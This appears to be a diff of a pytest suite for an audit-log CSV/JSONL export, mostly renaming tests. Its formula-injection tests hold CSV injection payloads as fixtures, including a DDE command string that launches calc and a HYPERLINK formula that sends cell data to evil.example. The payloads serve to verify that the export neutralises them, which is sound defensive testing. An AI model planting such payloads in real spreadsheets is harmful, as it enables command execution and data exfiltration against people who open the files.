@@ -1,4 +1,4 @@
-"""The audit log as a file: whole, in order, of any length, and harmless in a spreadsheet."""
+"""The export of the audit log: complete, ordered, streamed, and safe to open in a spreadsheet."""
 
 import csv
 import io
@@ -39,7 +39,7 @@ def lines(who: Person, **query: object) -> list[dict[str, Any]]:
 
 
 def table(text: str) -> list[dict[str, str]]:
-    """Return the rows of a CSV file, once its form is seen to be that of RFC 4180 with a byte order mark."""
+    """Require RFC 4180 with a byte order mark, and return the rows."""
     assert text.startswith("\ufeff")
     assert text.endswith("\r\n")
     header, *rows = csv.reader(io.StringIO(text[1:], newline=""), strict=True)
@@ -51,8 +51,8 @@ def rows(who: Person, **query: object) -> list[dict[str, str]]:
     return table(exported(who, **query).text)
 
 
-def story(ana: Person, mia: Person, given: Given) -> dict[str, Any]:
-    """Have a registration made, edited, decided on and deleted."""
+def lifecycle(ana: Person, mia: Person, given: Given) -> dict[str, Any]:
+    """Create, edit, reject and delete a registration."""
     made = given.registration(by=ana, endpoint_name="Wetter")
     there = f"/registrations/{made['registration_id']}"
     assert (
@@ -66,8 +66,8 @@ def story(ana: Person, mia: Person, given: Given) -> dict[str, Any]:
 # ---------------------------------------------------------------------------------------------------------- content
 
 
-def test_json_lines_are_the_entries_of_the_log_oldest_first(ana: Person, mia: Person, given: Given) -> None:
-    story(ana, mia, given)
+def test_json_lines_are_the_audit_entries_oldest_first(ana: Person, mia: Person, given: Given) -> None:
+    lifecycle(ana, mia, given)
     given.registration(status="Approved")
     found = lines(mia)
     assert found == walk(mia, "/audit")[::-1]
@@ -76,8 +76,8 @@ def test_json_lines_are_the_entries_of_the_log_oldest_first(ana: Person, mia: Pe
         AuditEntry.model_validate(entry)
 
 
-def test_csv_has_a_row_per_entry_with_all_that_a_reviewer_asks_for(ana: Person, mia: Person, given: Given) -> None:
-    made = story(ana, mia, given)
+def test_csv_has_one_row_per_entry(ana: Person, mia: Person, given: Given) -> None:
+    made = lifecycle(ana, mia, given)
     entries = lines(mia)
     found = rows(mia)
     assert [row["log_id"] for row in found] == [entry["log_id"] for entry in entries]
@@ -102,18 +102,18 @@ def test_csv_has_a_row_per_entry_with_all_that_a_reviewer_asks_for(ana: Person, 
     assert (found[3]["action"], found[3]["previous_status"], found[3]["new_status"]) == ("Deleted", "Rejected", "")
 
 
-def test_every_row_names_its_registration_living_or_deleted(ana: Person, mia: Person, given: Given) -> None:
-    story(ana, mia, given)
+def test_every_row_names_its_registration_even_if_it_is_deleted(ana: Person, mia: Person, given: Given) -> None:
+    lifecycle(ana, mia, given)
     given.registration(endpoint_name="Tickets", status="Approved")
     assert [row["endpoint_name"] for row in rows(mia)] == ["Weather"] * 4 + ["Tickets"] * 2
 
 
-def test_an_empty_log_is_a_file_all_the_same(mia: Person) -> None:
+def test_an_empty_log_is_exported_as_an_empty_file(mia: Person) -> None:
     assert rows(mia) == []
     assert lines(mia) == []
 
 
-def test_nothing_found_is_a_file_all_the_same(mia: Person, given: Given) -> None:
+def test_without_matches_the_file_is_empty(mia: Person, given: Given) -> None:
     given.registration()
     assert rows(mia, action="Deleted") == []
     assert lines(mia, action="Deleted") == []
@@ -121,7 +121,7 @@ def test_nothing_found_is_a_file_all_the_same(mia: Person, given: Given) -> None
 
 @pytest.mark.parametrize("kind", ["csv", "jsonl"])
 def test_the_filters_are_those_of_the_log(ana: Person, mia: Person, given: Given, kind: str) -> None:
-    made = story(ana, mia, given)
+    made = lifecycle(ana, mia, given)
     given.registration(status="Approved")
     times = [entry["timestamp"] for entry in lines(mia)]
     for query in (
@@ -146,19 +146,19 @@ def test_the_filters_are_those_of_the_log(ana: Person, mia: Person, given: Given
         *(("user_id", "me"), ("action", "Pending"), ("status", "Approved")),
     ],
 )
-def test_a_query_that_cannot_be_read_is_not_acceptable(mia: Person, name: str, value: str) -> None:
+def test_an_invalid_query_is_refused(mia: Person, name: str, value: str) -> None:
     assert faults(mia.get("/audit/export", **{name: value})).keys() == {name}
 
 
-def test_entries_of_one_moment_come_each_once(mia: Person, given: Given) -> None:
+def test_entries_of_one_timestamp_are_exported_once_each(mia: Person, given: Given) -> None:
     given.entries(450, apart="0 s")
     found = [entry["log_id"] for entry in lines(mia)]
     assert len(found) == len(set(found)) == 450
     assert found == sorted(found)
 
 
-def test_an_entry_on_several_lines_becomes_one(mia: Person, given: Given) -> None:
-    """A hand that brought in older entries may have set them nicely."""
+def test_metadata_stored_on_several_lines_is_exported_on_one(mia: Person, given: Given) -> None:
+    """Imported entries may have indented JSON."""
     given.entries(3, metadata='{\r\n  "request_id": "x",\n  "reason": "two\\nlines"\n}')
     assert [entry["metadata"] for entry in lines(mia)] == [{"request_id": "x", "reason": "two\nlines"}] * 3
 
@@ -169,7 +169,7 @@ def test_an_entry_on_several_lines_becomes_one(mia: Person, given: Given) -> Non
 @pytest.mark.parametrize(
     ("kind", "media_type"), [("csv", "text/csv; charset=utf-8; header=present"), ("jsonl", "application/jsonl")]
 )
-def test_an_export_is_a_file_to_be_saved_and_not_kept_on_the_way(mia: Person, kind: str, media_type: str) -> None:
+def test_an_export_is_a_download_that_is_not_cached(mia: Person, kind: str, media_type: str) -> None:
     for answer in (exported(mia, format=kind), mia.head(f"/audit/export?format={kind}")):
         assert (answer.status, answer.headers["Content-Type"]) == (200, media_type)
         assert answer.headers["Cache-Control"] == "no-store"
@@ -183,7 +183,7 @@ def test_an_export_is_a_file_to_be_saved_and_not_kept_on_the_way(mia: Person, ki
     assert answer.body == b""
 
 
-def test_csv_has_semicolons_for_spreadsheets_that_expect_them(ana: Person, mia: Person, given: Given) -> None:
+def test_csv_can_have_semicolons(ana: Person, mia: Person, given: Given) -> None:
     given.registration(by=ana.saying(name='a;b,c"d'), endpoint_name="=1;2")
     text = exported(mia, separator="semicolon").text
     assert text.startswith('\ufeff"timestamp";"action";')
@@ -194,11 +194,11 @@ def test_csv_has_semicolons_for_spreadsheets_that_expect_them(ana: Person, mia: 
     assert faults(mia.get("/audit/export", separator=";")).keys() == {"separator"}
 
 
-def test_csv_is_what_comes_unless_asked_otherwise(mia: Person) -> None:
+def test_csv_is_the_default_format(mia: Person) -> None:
     assert exported(mia).headers["Content-Type"].startswith("text/csv")
 
 
-def test_a_head_says_no_length_where_a_get_has_none(served: Served, ana: Person, mia: Person) -> None:
+def test_head_of_a_stream_has_no_content_length(served: Served, ana: Person, mia: Person) -> None:
     for who in (mia, mia.at(served.send)):
         answer = who.head("/audit/export")
         assert (answer.status, answer.headers["Content-Length"], answer.body) == (200, None, b"")
@@ -207,7 +207,7 @@ def test_a_head_says_no_length_where_a_get_has_none(served: Served, ana: Person,
     )
 
 
-def test_a_head_is_refused_as_a_get_is(ana: Person, mia: Person) -> None:
+def test_head_is_refused_like_get(ana: Person, mia: Person) -> None:
     assert ana.head("/audit/export").status == 403
     assert mia.head("/audit/export?format=xlsx").status == 422
 
@@ -219,7 +219,7 @@ def test_only_administrators_export(ana: Person, anyone: Person, given: Given) -
     refused(anyone.get("/audit/export"), 401, "TOKEN_MISSING")
 
 
-def test_where_a_broken_transfer_could_not_be_told_there_is_none(new_app: NewApp, mia: Person) -> None:
+def test_http_1_0_is_refused_because_it_cannot_signal_a_broken_transfer(new_app: NewApp, mia: Person) -> None:
     old = mia.at(in_process(new_app(), SERVER_PROTOCOL="HTTP/1.0"))
     refused(old.get("/audit/export"), 505, "REFUSED")
     assert old.get("/audit").status == 200
@@ -228,35 +228,35 @@ def test_where_a_broken_transfer_could_not_be_told_there_is_none(new_app: NewApp
 # --------------------------------------------------------------------------------------------------------- formulas
 
 
-@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
-@pytest.mark.parametrize("behind", ["", " ", "   ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2028", "\u202e"])
-def test_what_a_spreadsheet_would_run_gets_an_apostrophe(begins: str, behind: str) -> None:
-    text = f"{behind}{begins}HYPERLINK(1)"
-    if not behind or begins.isprintable():
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+@pytest.mark.parametrize("prefix", ["", " ", "   ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2028", "\u202e"])
+def test_a_formula_gets_an_apostrophe(first: str, prefix: str) -> None:
+    text = f"{prefix}{first}HYPERLINK(1)"
+    if not prefix or first.isprintable():
         assert harmless(text) == f"'{text}"
 
 
 @pytest.mark.parametrize(
     "text", ["", "a=1", "1-2", "ana@example.com", "'=1", '"=1"', "Ünïcode 天気 ☂", "a\n=1", "{}", " a"]
 )
-def test_what_is_harmless_stays_as_it_is(text: str) -> None:
+def test_a_text_that_is_no_formula_is_unchanged(text: str) -> None:
     assert harmless(text) == text
     assert harmless(None) == ""
 
 
 @pytest.mark.parametrize("letter", ["x", "é", "天", "😀", '"'])
-def test_what_is_too_long_for_a_cell_is_cut_and_says_so(letter: str) -> None:
+def test_a_text_too_long_for_a_cell_is_cut_with_a_note(letter: str) -> None:
     size = len(letter.encode("utf-16-le")) // 2
-    whole = letter * (32_767 // size)
-    assert harmless(whole) == whole
-    cut = harmless(whole + letter)
+    longest = letter * (32_767 // size)
+    assert harmless(longest) == longest
+    cut = harmless(longest + letter)
     assert len(cut.encode("utf-16-le")) // 2 <= 32_767
     assert cut.startswith(letter * 16_000)
     assert cut.endswith("(cut: longer than a cell can be)")
-    assert harmless("=" + whole).startswith(f"'={letter}")
+    assert harmless("=" + longest).startswith(f"'={letter}")
 
 
-NASTY = [
+DIFFICULT_TEXTS = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example?x="&A1,"Click")',
     '","=1+1","',
@@ -268,8 +268,10 @@ NASTY = [
 ]
 
 
-@pytest.mark.parametrize("words", NASTY)
-def test_cells_come_back_exactly_but_for_the_apostrophe(ana: Person, mia: Person, given: Given, words: str) -> None:
+@pytest.mark.parametrize("words", DIFFICULT_TEXTS)
+def test_cells_are_read_back_exactly_except_for_the_apostrophe(
+    ana: Person, mia: Person, given: Given, words: str
+) -> None:
     who = ana.saying(name=words)
     made = given.registration(by=who, endpoint_name=words, description=words)
     assert mia.set_status(made, "Rejected", reason=words).status == 200
@@ -278,7 +280,7 @@ def test_cells_come_back_exactly_but_for_the_apostrophe(ana: Person, mia: Person
     created, rejected = table(text)
     assert (created["endpoint_name"], created["display_name"]) == (expected, expected)
     assert rejected["reason"] == expected
-    # All cells are in quotes, so that no separator of theirs begins another; and none begins as formulas do.
+    # Every cell is quoted, so a separator within a cell starts no other cell; no cell starts like a formula.
     assert re.fullmatch(r'\ufeff(?:(?:"(?:[^"]|"")*",?)+\r\n)+', text)
     assert not re.search(r'(^|[,\n])"\s*[=+\-@]', text)
     assert lines(mia)[1]["metadata"]["reason"] == words
@@ -288,7 +290,7 @@ def test_cells_come_back_exactly_but_for_the_apostrophe(ana: Person, mia: Person
 
 
 def pieces(app: Any, who: Person, **query: object) -> Iterator[bytes]:
-    """Receive an export piece by piece, as a WSGI server does."""
+    """Yield the chunks of an export as a WSGI server receives them."""
     request = TestApp.RequestClass.blank(f"/audit/export?{urlencode(query)}", environ={"SERVER_PROTOCOL": "HTTP/1.1"})
     request.headers["Authorization"] = f"Bearer {who.token}"
     status, _, stream = request.call_application(app)
@@ -296,9 +298,7 @@ def pieces(app: Any, who: Person, **query: object) -> Iterator[bytes]:
     return iter(stream)
 
 
-def test_a_connection_is_held_while_a_page_is_read_and_not_while_it_is_received(
-    new_app: NewApp, mia: Person, given: Given
-) -> None:
+def test_no_connection_is_held_while_the_client_receives(new_app: NewApp, mia: Person, given: Given) -> None:
     given.entries(1000)
     app = new_app(db_pool_min_size=1, db_pool_max_size=1, db_pool_timeout=0.5)
     here = mia.at(in_process(app))
@@ -310,7 +310,7 @@ def test_a_connection_is_held_while_a_page_is_read_and_not_while_it_is_received(
     assert here.get("/audit", limit=1).status == 200
 
 
-def test_what_comes_meanwhile_is_not_in_it(new_app: NewApp, mia: Person, given: Given, sql: Sql) -> None:
+def test_entries_written_during_an_export_are_not_in_it(new_app: NewApp, mia: Person, given: Given, sql: Sql) -> None:
     given.entries(1000)
     stream = pieces(new_app(), mia, format="jsonl")
     text = next(stream)
@@ -321,7 +321,7 @@ def test_what_comes_meanwhile_is_not_in_it(new_app: NewApp, mia: Person, given: 
     assert len(lines(mia)) == 1303
 
 
-def test_a_page_has_so_many_bytes_whatever_the_entries_hold(new_app: NewApp, mia: Person, given: Given) -> None:
+def test_the_chunks_of_an_export_are_limited_by_size(new_app: NewApp, mia: Person, given: Given) -> None:
     large = json.dumps({"request_id": "x", "changes": {"available_tools": {"old": ["a" * 250_000], "new": []}}})
     given.entries(30, metadata=large)
     given.entries(500)
@@ -332,8 +332,8 @@ def test_a_page_has_so_many_bytes_whatever_the_entries_hold(new_app: NewApp, mia
     assert max(len(row["changes"]) for row in rows(mia)) == 32_767
 
 
-def test_trouble_at_the_beginning_is_a_problem(new_app: NewApp, mia: Person, sql: Sql) -> None:
-    assert mia.get("/audit").status == 200  # so that the caller is known
+def test_an_error_before_the_first_chunk_is_a_problem(new_app: NewApp, mia: Person, sql: Sql) -> None:
+    assert mia.get("/audit").status == 200  # caches the caller
     sql("ALTER TABLE audit_log RENAME TO gone")
     try:
         for kind in ("csv", "jsonl"):
@@ -342,7 +342,9 @@ def test_trouble_at_the_beginning_is_a_problem(new_app: NewApp, mia: Person, sql
             assert answer.headers["Content-Disposition"] is None
     finally:
         sql("ALTER TABLE gone RENAME TO audit_log")
-    cut_off = mia.at(in_process(new_app(database_url=SecretStr("host=127.0.0.1 port=1 user=x"), db_pool_timeout=0.1)))
-    answer = cut_off.get("/audit/export")
+    without_database = mia.at(
+        in_process(new_app(database_url=SecretStr("host=127.0.0.1 port=1 user=x"), db_pool_timeout=0.1))
+    )
+    answer = without_database.get("/audit/export")
     refused(answer, 503, "UNAVAILABLE")
     assert answer.headers["Content-Disposition"] is None
